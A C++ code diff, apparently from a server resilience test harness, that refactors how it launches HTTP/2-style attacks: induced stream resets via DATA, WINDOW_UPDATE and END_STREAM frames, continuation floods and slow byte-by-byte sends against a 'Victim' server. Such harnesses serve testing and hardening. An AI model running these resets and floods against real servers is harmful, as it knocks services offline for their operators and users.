@@ -200,6 +200,12 @@ bool Call(Victim& victim, const char* path, std::string_view message) {
   return answered;
 }
 
+// After a call of `first`: calls that a frame makes the server reset.
+void MadeResets(Victim& victim, const char* first, FrameType type, std::string_view payload,
+                uint8_t flags = 0) {
+  if (Call(victim, first, "")) Resets(victim, kStreamPath, 3, type, payload, flags);
+}
+
 void Drip(Victim& victim, std::string_view bytes) {
   for (const char byte : bytes) {
     if (!victim.Send({&byte, 1}) || !victim.Idle(kDrip)) return;
@@ -280,10 +286,7 @@ void Carry(Attack attack, Victim& victim) {
       if (Call(victim, kHealthPath, "")) Resets(victim, kStreamPath, 3);
       return;
     case Attack::kCheckedMadeReset:
-      if (Call(victim, kHealthPath, "")) {
-        Resets(victim, kStreamPath, 3, FrameType::kData, kWrongMessage);
-      }
-      return;
+      return MadeResets(victim, kHealthPath, FrameType::kData, kWrongMessage);
     case Attack::kGarbageContinuation:
       if (Call(victim, kWatchPath, "\xff\xff\xff")) ContinuationFlood(victim, 3);
       return;
@@ -300,20 +303,11 @@ void Carry(Attack attack, Victim& victim) {
       if (Call(victim, kOwnPath, "")) Resets(victim, kHealthPath, 3);
       return;
     case Attack::kTrustedMadeReset:
-      if (Call(victim, kOwnPath, "")) {
-        Resets(victim, kStreamPath, 3, FrameType::kData, kWrongMessage);
-      }
-      return;
+      return MadeResets(victim, kOwnPath, FrameType::kData, kWrongMessage);
     case Attack::kTrustedMadeResetByWindow:
-      if (Call(victim, kOwnPath, "")) {
-        Resets(victim, kStreamPath, 3, FrameType::kWindowUpdate, kNothing);
-      }
-      return;
+      return MadeResets(victim, kOwnPath, FrameType::kWindowUpdate, kNothing);
     case Attack::kTrustedMadeResetByEnd:
-      if (Call(victim, kOwnPath, "")) {
-        Resets(victim, kStreamPath, 3, FrameType::kData, "x", kEndStream);
-      }
-      return;
+      return MadeResets(victim, kOwnPath, FrameType::kData, "x", kEndStream);
   }
 }
 
